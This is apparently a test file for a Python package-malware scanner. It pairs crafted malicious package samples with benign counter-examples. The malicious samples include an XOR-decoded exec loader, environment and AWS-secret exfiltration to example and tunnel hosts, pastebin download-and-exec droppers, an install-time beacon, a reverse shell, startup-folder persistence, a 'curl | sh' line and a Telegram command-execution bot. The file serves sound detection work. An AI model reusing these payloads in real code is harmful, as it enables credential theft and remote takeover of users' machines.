"""Techniques that hid payloads from the first package rules: hand-rolled XOR decoders, code with escaped
newlines, scripts written to disk or passed to ``python -c``, fetch/write/run split over helpers, and
payloads that wait in a function the victim calls. Each has a benign counter-example that stays clean.

Every sample is a small text crafted here; nothing is installed, imported or run.
"""

from __future__ import annotations

import base64

from chainwatch.packages import signals as sg
from tests.packages.helpers import facts_of, sdist, verdict, wheel_bytes

SETUP = "from setuptools import setup\nsetup(name='x', version='1.0')\n"


def _wheel(name: str, files: dict[str, str]) -> bytes:
    meta = (f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nSummary: a library\n"
            "Home-page: https://example.org\n")
    return wheel_bytes({**files, f"{name}-1.0.dist-info/METADATA": meta})


def _xor(text: str, key: str) -> str:
    return "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(text))


# ----------------------------------------------------------------- XOR decoder loops


def test_xor_decoder_loop_feeding_exec_at_import_is_malicious() -> None:
    blob = _xor("import os\nos.system('id')\n", "k3y")
    code = (f"DATA = {blob!r}\nKEY = 'k3y'\nout = ''\nfor i in range(len(DATA)):\n"
            "    out += chr(ord(DATA[i]) ^ ord(KEY[i % len(KEY)]))\n"
            "eval(compile(out, '<string>', 'exec'))\n")
    v, strong = verdict(_wheel("xorpkg", {"xorpkg/__init__.py": code}))
    assert v == "malicious", strong
    assert "package.decoded-exec:critical" in strong


def test_xor_checksum_without_exec_stays_clean() -> None:
    code = ("def checksum(data: bytes) -> int:\n    c = 0\n    for b in data:\n        c ^= b\n    return c\n\n"
            "def mask(data: bytes, key: bytes) -> bytes:\n"
            "    return bytes(b ^ key[i % 4] for i, b in enumerate(data))\n")
    v, strong = verdict(_wheel("wsmask", {"wsmask/__init__.py": code}))
    assert v == "clean", strong


# ----------------------------------------------------------------- escaped newlines


def test_code_with_escaped_newlines_is_recovered_and_scanned() -> None:
    code = ("import os,requests;def f():\\n try:requests.post('https://collect.example/x',"
            "data=str(dict(os.environ)))\\n except Exception:pass\\nf()\n")
    facts = facts_of(_wheel("oneliner", {"oneliner/__init__.py": code}))
    assert any(s.detail.get("recovered") for s in facts.signals)
    v, strong = verdict(_wheel("oneliner", {"oneliner/__init__.py": code}))
    assert v == "malicious", strong
    assert "package.exfiltration:critical" in strong


def test_ordinary_escaped_newlines_in_strings_change_nothing() -> None:
    code = "import sys\n\ndef show(lines):\n    sys.stdout.write('\\n'.join(lines) + '\\n')\n"
    facts = facts_of(_wheel("printer", {"printer/__init__.py": code}))
    assert not any(s.detail.get("recovered") for s in facts.signals)
    assert verdict(_wheel("printer", {"printer/__init__.py": code}))[0] == "clean"


# ----------------------------------------------------------------- droppers and python -c


def test_script_written_to_disk_is_scanned_as_code() -> None:
    code = ('import os, sys, tempfile\n\ndef start():\n'
            '    t = tempfile.NamedTemporaryFile(suffix=".py", delete=False)\n'
            '    t.write(b"from urllib.request import urlopen;exec(urlopen(\'https://pastebin.com/raw/zz11\').read())")\n'
            '    t.close()\n    os.system(f"start {sys.executable} {t.name}")\n')
    facts = facts_of(_wheel("dropper", {"dropper/run.py": code}))
    written = [s for s in facts.signals if s.detail.get("payload_origin") == "code written to a file"]
    assert any(s.kind == "net.download-exec" for s in written), [s.kind for s in facts.signals]
    v, strong = verdict(_wheel("dropper", {"dropper/run.py": code}))
    assert v != "clean" and "package.call-only-payload:high" in strong


def test_config_file_written_from_a_literal_stays_clean() -> None:
    code = ('def init(path):\n    with open(path, "w") as f:\n'
            '        f.write("[settings]\\ncolor = auto\\nwidth = 80\\nlanguage = en\\n")\n')
    assert verdict(_wheel("cfgwriter", {"cfgwriter/__init__.py": code}))[0] == "clean"


def test_python_dash_c_script_at_install_is_scanned() -> None:
    setup = ('import subprocess, sys\nfrom setuptools import setup\nfrom setuptools.command.install import install\n'
             'class Post(install):\n    def run(self):\n        install.run(self)\n'
             '        script = """\nimport socket, getpass, urllib.request\n'
             'urllib.request.urlopen("https://beacon.example/p?h=" + socket.gethostname() + getpass.getuser())\n"""\n'
             '        subprocess.run([sys.executable, "-c", script])\n'
             'setup(name="postinst", version="1.0", cmdclass={"install": Post})\n')
    v, strong = verdict(sdist("postinst", "1.0", {"setup.py": setup}))
    assert v == "malicious", strong
    assert "package.install-beacon:critical" in strong  # host and user carried in the URL it fetches


def test_python_dash_c_build_helper_stays_clean() -> None:
    setup = ('import subprocess, sys\nfrom setuptools import setup\n'
             'subprocess.run([sys.executable, "-c", "import setuptools; print(setuptools.__version__)"])\n'
             'setup(name="helperpkg", version="1.0")\n')
    _v, strong = verdict(sdist("helperpkg", "1.0", {"setup.py": setup}))
    assert not strong, strong


# ----------------------------------------------------------------- fetch / write / run across helpers


LOADER = '''import os, subprocess, requests

def fetch(url, dest):
    r = requests.get(url)
    with open(dest, "wb") as f:
        f.write(r.content)

def launch(path):
    subprocess.run([path], check=True)

def load():
    dest = os.path.join(os.getenv("APPDATA") or "/tmp", "svc.bin")
    fetch("https://cdn.example/svc.bin", dest)
    launch(dest)
'''


def test_fetch_write_run_split_over_helpers_at_import_is_malicious() -> None:
    files = {"ldr/__init__.py": "from .core import load\nload()\n", "ldr/core.py": LOADER}
    v, strong = verdict(_wheel("ldr", files))
    assert v == "malicious", strong
    assert "package.download-exec:critical" in strong


def test_same_helpers_only_called_by_the_user_stay_clean() -> None:
    files = {"ldr/__init__.py": "from .core import load\n", "ldr/core.py": LOADER}
    assert verdict(_wheel("ldr", files))[0] == "clean"


# ----------------------------------------------------------------- call-only payloads


def test_runtime_exec_of_downloaded_code_is_flagged() -> None:
    code = "import requests\n\ndef colorize(text):\n    exec(requests.get('https://cdn.example/c.py').text)\n" \
           "    return text\n"
    v, strong = verdict(_wheel("colortext", {"colortext/__init__.py": code}))
    assert v != "clean" and "package.call-only-payload:high" in strong


def test_runtime_download_of_a_windows_program_is_flagged() -> None:
    code = ('import os, requests, subprocess\n\ndef helper():\n    path = os.path.join(os.getenv("TEMP"), "upd.exe")\n'
            '    with open(path, "wb") as f:\n        f.write(requests.get("https://files.example/u").content)\n'
            '    subprocess.run([path])\n')
    v, strong = verdict(_wheel("winhelper", {"winhelper/tools.py": code}))
    assert v != "clean" and "package.call-only-payload:high" in strong


def test_runtime_api_client_and_tool_runner_stay_clean() -> None:
    code = ('import requests, subprocess\n\ndef status(url):\n    return requests.get(url, timeout=5).json()\n\n'
            'def cache(url, path):\n    with open(path, "wb") as f:\n        f.write(requests.get(url).content)\n\n'
            'def run(cmd):\n    return subprocess.run(cmd, check=True)\n')
    v, strong = verdict(_wheel("apiclient", {"apiclient/__init__.py": code}))
    assert v == "clean", strong


def test_runtime_exec_of_a_decoded_shipped_blob_is_flagged() -> None:
    blob = base64.b64encode(bytes(b ^ 0x41 for b in b"import os\nos.system('whoami')\n" * 12)).decode()
    code = (f"import base64\n\nclass Proxy:\n    def __init__(self):\n        self._code = {blob!r}\n\n"
            "    def decode(self, s):\n        return bytes(b ^ 0x41 for b in base64.b64decode(s)).decode()\n\n"
            "    def call(self):\n        exec(self.decode(self._code))\n")
    v, strong = verdict(_wheel("proxyfy", {"proxyfy/__init__.py": code}))
    assert v != "clean" and "package.call-only-payload:high" in strong


def test_decoding_a_shipped_image_without_exec_stays_clean() -> None:
    blob = base64.b64encode(bytes(range(256)) * 2).decode()
    code = f"import base64\nICON = {blob!r}\n\ndef icon_bytes():\n    return base64.b64decode(ICON)\n"
    assert verdict(_wheel("iconpkg", {"iconpkg/__init__.py": code}))[0] == "clean"


def test_runtime_post_to_a_tunnel_host_is_flagged() -> None:
    code = ("import requests\n\ndef sign(private_key):\n"
            "    requests.post('https://abc-def.ngrok-free.dev/k', json={'k': private_key})\n")
    v, strong = verdict(_wheel("walletsign", {"walletsign/__init__.py": code}))
    assert v != "clean" and "package.call-only-payload:high" in strong


def test_import_time_send_to_a_raw_ip_is_flagged() -> None:
    code = ("import json, urllib.request\n\ndef post(url, data):\n"
            "    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')\n"
            "    return urllib.request.urlopen(req)\n\n"
            "post('http://198.51.7.20:3000/nodes/register', {'h': __file__})\n")
    v, strong = verdict(_wheel("nodereg", {"nodereg/__init__.py": code}))
    assert v != "clean" and "package.shady-endpoint:high" in strong


# ----------------------------------------------------------------- reverse shell, persistence, names


def test_reverse_shell_in_a_library_function_is_flagged() -> None:
    code = ("import socket, os, pty\n\ndef open_image(path):\n    s = socket.socket()\n"
            "    s.connect(('10.0.0.5', 4444))\n    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
            "    pty.spawn('/bin/sh')\n")
    facts = facts_of(_wheel("imglib", {"imglib/image.py": code}))
    assert any(s.detail.get("pattern") == "reverse-shell" for s in facts.signals)
    assert verdict(_wheel("imglib", {"imglib/image.py": code}))[0] != "clean"


def test_socket_server_with_a_subprocess_stays_clean() -> None:
    code = ("import socket, subprocess\n\ndef serve(port):\n    s = socket.socket()\n    s.bind(('127.0.0.1', port))\n"
            "    s.listen()\n    conn, _ = s.accept()\n    subprocess.run(['git', 'status'])\n")
    assert verdict(_wheel("srvlib", {"srvlib/server.py": code}))[0] == "clean"


def test_write_into_the_startup_folder_through_chdir_or_a_path_variable_is_flagged() -> None:
    via_chdir = ("import os\n\ndef arm():\n    os.chdir(f'C:/Users/{os.getenv(\"USERNAME\")}/AppData/Roaming/Microsoft/"
                 "Windows/Start Menu/Programs/Startup')\n    with open('run.py', 'w') as f:\n"
                 "        f.write('print(1)')\n")
    via_var = ("import os\n\ndef arm():\n"
               "    start = f'C:\\\\Users\\\\{os.getlogin()}\\\\AppData\\\\Roaming\\\\Microsoft"
               "\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup'\n"
               "    with open(start + '\\\\run.py', 'w') as f:\n        f.write('print(1)')\n")
    for code in (via_chdir, via_var):
        facts = facts_of(_wheel("armer", {"armer/__init__.py": code}))
        assert any(s.kind == "persist.startup" and s.detail.get("how") != "mentioned" for s in facts.signals)
        assert verdict(_wheel("armer", {"armer/__init__.py": code}))[0] != "clean"


def test_dependency_with_reordered_words_of_a_popular_name_is_flagged() -> None:
    setup = ("from setuptools import setup\nsetup(name='acme-kms-tool', version='1.0', "
             "install_requires=['python-aliyun-sdk-core>=2.11'])\n")
    _v, strong = verdict(sdist("acme-kms-tool", "1.0", {"setup.py": setup, "acme_kms_tool/__init__.py": ""}))
    assert "package.dependency-typosquat:medium" in strong, strong
    ok = ("from setuptools import setup\nsetup(name='acme-kms-tool', version='1.0', "
          "install_requires=['aliyun-python-sdk-core>=2.11'])\n")
    assert verdict(sdist("acme-kms-tool", "1.0", {"setup.py": ok, "acme_kms_tool/__init__.py": ""}))[0] == "clean"


def test_class_method_called_from_init_runs_at_import() -> None:
    utils = ('import subprocess\n\nclass NetUtils:\n    def run():\n'
             '        subprocess.Popen(["python3", "-c",\n'
             '                          "import os; os.system(\'curl -s https://x.example/a | sh\')"])\n')
    files = {"netu/__init__.py": "from .utils import NetUtils\nNetUtils.run()\n", "netu/utils.py": utils}
    facts = facts_of(_wheel("netu", files))
    assert any(s.kind == "exec.process" and s.phase == "import" and s.file == "netu/utils.py" for s in facts.signals)
    assert verdict(_wheel("netu", files))[0] == "malicious"
    quiet = {"netu/__init__.py": "from .utils import NetUtils\n", "netu/utils.py": utils}
    assert not any(s.phase == "import" for s in facts_of(_wheel("netu", quiet)).signals if s.file == "netu/utils.py")


def test_chat_bot_handler_running_messages_as_commands_is_flagged() -> None:
    code = ('import subprocess, telebot\n\ndef serve(token):\n    bot = telebot.TeleBot(token)\n\n'
            '    @bot.message_handler(commands=["sh"])\n    def sh(message):\n        cmd = message.text[4:]\n'
            '        out = subprocess.run(cmd, shell=True, capture_output=True, text=True)\n'
            '        bot.reply_to(message, out.stdout)\n\n    bot.polling()\n')
    v, strong = verdict(_wheel("tgtools", {"tgtools/__init__.py": code}))
    assert v != "clean" and "package.install-downloader:medium" in strong, strong


def test_chat_bot_handler_with_fixed_commands_stays_clean() -> None:
    code = ('import subprocess, telebot\n\ndef serve(token):\n    bot = telebot.TeleBot(token)\n\n'
            '    @bot.message_handler(commands=["uptime"])\n    def up(message):\n'
            '        out = subprocess.run(["uptime"], capture_output=True, text=True)\n'
            '        bot.reply_to(message, out.stdout)\n\n    bot.polling()\n')
    assert verdict(_wheel("tgtools", {"tgtools/__init__.py": code}))[0] == "clean"


def test_secret_kept_on_self_and_sent_to_free_app_hosting_is_flagged() -> None:
    code = ('import os, requests\n\nclass Ctx:\n    def __init__(self):\n'
            '        self.key = os.environ.get("AWS_SECRET_ACCESS_KEY")\n\n    def sync(self):\n'
            '        requests.get("https://some-app.herokuapp.com/k/" + self.key)\n')
    facts = facts_of(_wheel("ctxlib", {"ctxlib/__init__.py": code}))
    assert any(s.kind == "flow.exfiltration" for s in facts.signals)
    v, strong = verdict(_wheel("ctxlib", {"ctxlib/__init__.py": code}))
    assert v != "clean" and "package.call-only-payload:high" in strong


def test_token_kept_on_self_and_sent_to_its_api_stays_clean() -> None:
    code = ('import os, requests\n\nclass Client:\n    def __init__(self):\n'
            '        self.token = os.environ.get("ACME_API_TOKEN")\n\n    def me(self):\n'
            '        auth = {"Authorization": self.token}\n'
            '        return requests.get("https://api.acme.example/me", headers=auth).json()\n')
    assert verdict(_wheel("acmeclient", {"acmeclient/__init__.py": code}))[0] == "clean"


def test_app_hosting_link_in_setup_metadata_stays_clean() -> None:
    setup = ("from setuptools import setup\n"
             "setup(name='demoapp', version='1.0', url='https://demoapp.herokuapp.com')\n")
    assert verdict(sdist("demoapp", "1.0", {"setup.py": setup, "demoapp/__init__.py": ""}))[0] == "clean"


def test_chat_client_started_by_setup_is_install_time_network() -> None:
    setup = ('import discord\nfrom setuptools import setup\nfrom setuptools.command.install import install\n'
             'class Post(install):\n    def run(self):\n        install.run(self)\n'
             '        client = discord.Client(intents=discord.Intents.default())\n        client.run(TOKEN)\n'
             'TOKEN = "x"\nsetup(name="chatinst", version="1.0", cmdclass={"install": Post})\n')
    v, strong = verdict(sdist("chatinst", "1.0", {"setup.py": setup}))
    assert v != "clean" and "package.install-network:high" in strong


def test_connecting_to_a_configured_host_is_not_exfiltration() -> None:
    """A client keeps host/port read from the environment on self and connects later (github-copilot-sdk
    does this): the address is configuration, not a payload. A secret built into the host name is."""
    client = '''import os, re, socket, subprocess

class Client:
    def __init__(self):
        self._host = "localhost"
        env = dict(os.environ)
        env["TOKEN"] = os.environ.get("GITHUB_TOKEN", "")
        self._token = os.environ.get("GITHUB_TOKEN")
        self._proc = subprocess.Popen(["copilot", "--port", "0"], env=env, stdout=subprocess.PIPE)
        line = self._proc.stdout.readline().decode()
        self._port = int(re.search(r"port (\\d+)", line).group(1))

    def connect(self):
        return socket.create_connection((self._host, self._port), timeout=10)
'''
    v, strong = verdict(_wheel("cfgclient", {"cfgclient/__init__.py": "", "cfgclient/client.py": client}))
    assert v == "clean", strong
    flows = [s for s in facts_of(_wheel("cfgclient", {"cfgclient/__init__.py": "", "cfgclient/client.py": client}))
             .signals if s.kind == sg.EXFIL_FLOW]
    assert flows == []
    leak = client.replace("(self._host, self._port)", '(f"{self._token}.x.example.net", 53)')
    flows = [s for s in facts_of(_wheel("cfgclient", {"cfgclient/__init__.py": "", "cfgclient/client.py": leak}))
             .signals if s.kind == sg.EXFIL_FLOW]
    assert flows and "env-secret" in flows[0].detail["sources"], flows
